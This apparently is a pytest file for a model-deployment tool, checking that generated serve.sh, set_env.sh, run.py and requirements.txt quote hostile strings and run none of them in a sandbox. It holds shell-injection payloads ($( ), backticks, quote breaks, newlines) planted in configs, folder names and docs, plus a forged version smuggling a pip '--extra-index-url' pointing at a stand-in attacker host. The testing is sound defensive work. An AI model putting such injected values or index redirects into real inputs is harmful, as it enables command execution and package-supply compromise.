"""Generated scripts quote everything (issue #42): a model's author writes its config.json, its folder's
name, its code's imports and (through its layered env) the versions npuport pins; a knowledge-base doc
writes serve settings. Every such string that reaches serve.sh, set_env.sh, run.py or requirements.txt
is fed here with newlines, ``$( )``, backticks and quotes; each script must parse (``bash -n`` / Python's
compiler), and serve.sh and set_env.sh run in the sandbox must execute none of it.

The payloads print a marker only when a shell evaluates them (``INJ""ECTED`` reads ``INJECTED`` only once
the quotes are removed by a shell) and touch a file in the bundle's folder."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from agents.deploy import requirements, runscript, serve, vllm, write_deploy_bundle
from agents.tuning.space import model_facts
from knowledge.kb.models import Hit
from sandbox.isolation.process import BubblewrapSandbox, Limits, Mounts, bwrap_available, scrubbed_env

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "ocr_mini"
MARK = "INJECTED"
PAYLOADS = (
    'x\ntouch pwned; echo INJ""ECTED\n',
    "$(touch pwned; echo INJ''ECTED)",
    "`touch pwned; echo INJ''ECTED`",
    "'; touch pwned; echo INJ''ECTED; '",
    '"; touch pwned; echo INJ""ECTED; "',
    "a\r\ntouch pwned\u2028echo INJ''ECTED\x0bb",
)
PAYLOAD = " ".join(PAYLOADS)


def _hostile_model(root: Path) -> Path:
    """ocr_mini with a config.json whose strings (values and keys) are the payloads."""
    model = root / f"m{PAYLOADS[1]}"  # the folder's name is served_name and serve.sh's DEFAULT_SRC
    shutil.copytree(EXAMPLE, model)
    config = json.loads((model / "config.json").read_text())
    config.update({"torch_dtype": PAYLOAD, "model_type": PAYLOAD, "architectures": [PAYLOAD],
                   f"vision_{PAYLOADS[0]}": 1, f"max_seq_len{PAYLOADS[2]}": 7,
                   "max_position_embeddings": 128, "n_routed_experts": 4})
    (model / "config.json").write_text(json.dumps(config))
    return model


def _hostile_docs() -> serve.Search:
    """A knowledge base whose serving doc's serve script sets every variable and flag to a payload."""
    exports = "\n".join(f"export {n}=$(touch${{IFS}}pwned)" for n in serve.ENV_VARS)
    text = ("multimodal vision moe experts\n```bash\n" + exports + "\nvllm serve /m --gpu-memory-utilization "
            f"{json.dumps(PAYLOADS[3])} --mm-processor-cache-gb '`touch pwned`' --no-enable-prefix-caching "
            f"--trust-remote-code --max-model-len 4 --additional-config "
            f"{json.dumps(json.dumps({PAYLOADS[0]: PAYLOADS[1], 'ok_key': PAYLOADS[4]}))}\n```\n")

    def search(query: str, k: int) -> list[Any]:
        return [Hit(id=f"c{PAYLOADS[0]}", collection="serving", title="t", text=text, source=f"docs/{PAYLOADS[2]}.md",
                    score=1.0)]

    return search


def _settings(model: Path) -> list[vllm.ServeSetting]:
    config = json.loads((model / "config.json").read_text())
    docs = serve.plan_from_docs(serve.model_class(config, model), _hostile_docs(), "910b")
    engine = {"args": ["--max-num-seqs", PAYLOADS[1], f"--x{PAYLOADS[2]}", "1"],
              "env": {"VLLM_CPU_KVCACHE_SPACE": PAYLOADS[0], f"BAD{PAYLOADS[1]}": "1"},
              "reasons": {"max-num-seqs": PAYLOAD}}
    settings = vllm.plan_serve(model_facts(config, has_custom_code=True), chip="910b", docs=docs, engine=engine)
    settings.append(vllm.ServeSetting(name="max-num-batched-tokens", value=PAYLOAD, kind="flag", reason=PAYLOAD,
                                      citation=PAYLOAD, source=PAYLOAD, measured=PAYLOAD))
    settings.append(vllm.ServeSetting(name="VLLM_EXTRA", value=PAYLOAD, kind="env", reason=PAYLOAD,
                                      citation=PAYLOAD, source=PAYLOAD, measured=PAYLOAD))
    settings.append(vllm.ServeSetting(name=PAYLOADS[1], value=PAYLOAD, kind="env", reason="r", citation="c"))
    settings.append(vllm.ServeSetting(name=PAYLOADS[2], value=PAYLOAD, kind="flag", reason="r", citation="c"))
    return settings


def _bash_parses(path: Path) -> None:
    done = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
    assert done.returncode == 0, f"{path.name} does not parse: {done.stderr}"


def _fake_vllm(root: Path) -> Path:
    bin_dir = root / "fakebin"
    bin_dir.mkdir()
    (bin_dir / "vllm").write_text('#!/bin/sh\nprintf "vllm argument: %s\\n" "$@"\n')
    os.chmod(bin_dir / "vllm", 0o755)
    return bin_dir


def _run_in_sandbox(bundle: Path, model: Path, command: str) -> str:
    bwrap = bwrap_available()
    if bwrap is None:
        pytest.skip("bubblewrap is not installed here (.ci/run installs it; CI runs these)")
    bin_dir = _fake_vllm(bundle.parent)
    env = scrubbed_env({"PATH": f"{bin_dir}:/usr/bin:/bin"})
    res = BubblewrapSandbox(bwrap).execute(["bash", "-c", command], cwd=bundle, env=env, limits=Limits(wall_s=60),
                                           mounts=Mounts(ro=(model.resolve(), bin_dir.resolve()),
                                                         rw=(bundle.resolve(),)))
    out = res.stdout + res.stderr
    assert res.status == "ok", out
    return out


def _assert_nothing_ran(bundle: Path, out: str) -> None:
    assert MARK not in out, f"a payload ran:\n{out}"
    assert not list(bundle.rglob("pwned")), "a payload touched a file"


@pytest.fixture()
def hostile_bundle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    monkeypatch.setenv("NPUPORT_KB", "off")
    monkeypatch.setenv("NPUPORT_SERVE", "0")
    monkeypatch.setattr(serve, "default_search", _hostile_docs)
    model = _hostile_model(tmp_path)
    bundle = tmp_path / "bundle"
    shutil.copytree(model, bundle / "patched")
    manifest = {"name": PAYLOAD, "entry": {"class": "modeling_ocr_mini:OcrMini"}, "config": "config.json",
                "inputs": f"x:{PAYLOADS[1]}", "run": {"method": "generate", "kwargs": {PAYLOADS[0]: PAYLOADS[2]}}}
    state = {"request": {"model_path": str(model), "chip": "910b"}, "target": {"name": "cpu"}, "entry": manifest,
             "tuning": {"status": "done", "best": {"dtype": PAYLOADS[1], "attn": PAYLOADS[2], "batch": 1}}}
    write_deploy_bundle(state, bundle)
    return bundle, model


def test_bundle_scripts_parse_and_run_nothing_a_model_wrote(hostile_bundle: tuple[Path, Path]) -> None:
    """The bundle of a model whose config.json, folder name, manifest and serving docs are payloads: serve.sh
    and set_env.sh parse and, run in the sandbox (vLLM a stand-in that prints its arguments), run none of it;
    run.py compiles and holds the manifest as data."""
    bundle, model = hostile_bundle
    for name in ("serve.sh", "set_env.sh"):
        _bash_parses(bundle / name)
    out = _run_in_sandbox(bundle, model, "source ./set_env.sh && env | grep -c VLLM_ ; ./serve.sh")
    _assert_nothing_ran(bundle, out)
    assert "vllm argument: serve" in out  # serve.sh got as far as starting vLLM
    # run.py: the same program as a harmless model's, the payloads only inside its string constants
    plain = runscript.render_run_py({"dtype": "float32"}, "cpu", {"name": "m"}, {"model_path": "m"})
    assert _shape((bundle / "run.py").read_text()) == _shape(plain)


def _shape(source: str) -> str:
    """The program's syntax tree with every constant blanked: what it does, not what data it holds."""
    import ast

    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant):
            node.value = None
    return ast.dump(tree, include_attributes=False)


def test_every_serve_setting_field_is_quoted(tmp_path: Path) -> None:
    """Every field of every setting (name, value, reason, citation, source, measured), from the config, the
    docs and the engine tuner, through serve.sh and set_env.sh: parse, and run nothing in the sandbox."""
    model = _hostile_model(tmp_path)
    bundle = tmp_path / "b"
    (bundle / "patched").mkdir(parents=True)
    settings = _settings(model)
    (bundle / "serve.sh").write_text(vllm.render_serve_sh(settings, PAYLOAD, str(model)))
    (bundle / "set_env.sh").write_text(vllm.render_set_env_sh(settings))
    os.chmod(bundle / "serve.sh", 0o755)
    for name in ("serve.sh", "set_env.sh"):
        _bash_parses(bundle / name)
    out = _run_in_sandbox(bundle, model, "./serve.sh")
    _assert_nothing_ran(bundle, out)
    assert f"vllm argument: {PAYLOAD}" in out  # the served name reached vLLM whole, as one argument


def test_run_py_keeps_model_text_as_data(tmp_path: Path) -> None:
    """run.py's placeholders are substituted once: a manifest value spelling one stays what it was."""
    manifest = {"name": "__TARGET__ __CHOICES__ '''\"\"\"", "config": "config.json", "run": {"method": "generate"}}
    text = runscript.render_run_py({"dtype": "__MANIFEST__"}, "cpu", manifest, {"model_path": "m"})
    ns: dict[str, Any] = {"__file__": str(tmp_path / "run.py")}
    head = text.split("\ndef register_package")[0].replace("import model_inputs", "").replace("import run_outputs", "")
    exec(compile(head.replace("import torch\n", "").replace("import yaml\n", ""), "run.py", "exec"), ns)  # noqa: S102
    assert ns["MANIFEST"]["name"] == manifest["name"] and ns["TUNED"] == {"dtype": "__MANIFEST__"}


def test_requirements_take_only_versions_from_the_env(tmp_path: Path) -> None:
    """requirements.txt / constraints.txt pin the versions the layered env reports, and that env's
    interpreter runs the model's wheels' .pth files: a forged answer (a newline and a pip option in a version)
    pins nothing."""
    env = tmp_path / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--system-site-packages", str(env)], check=True)
    purelib = "import sysconfig; print(sysconfig.get_paths()['purelib'])"
    site = subprocess.run([str(env / "bin" / "python"), "-c", purelib],
                          capture_output=True, text=True, check=True).stdout.strip()
    forged = "1.0\\n--extra-index-url http://attacker.invalid/simple\\n"
    Path(site, "forge.pth").write_text(f"import importlib.metadata as m; m.version = lambda d: '{forged}'\n")
    model = tmp_path / "model"
    model.mkdir()
    (model / "m.py").write_text("import numpy\nimport yaml\n")
    req, con = requirements.render(model, str(env / "bin" / "python"))
    for text in (req, con):
        assert "--extra-index-url" not in text and "attacker" not in text
        assert all(not line.startswith("-") for line in text.splitlines())
    assert "numpy" in req
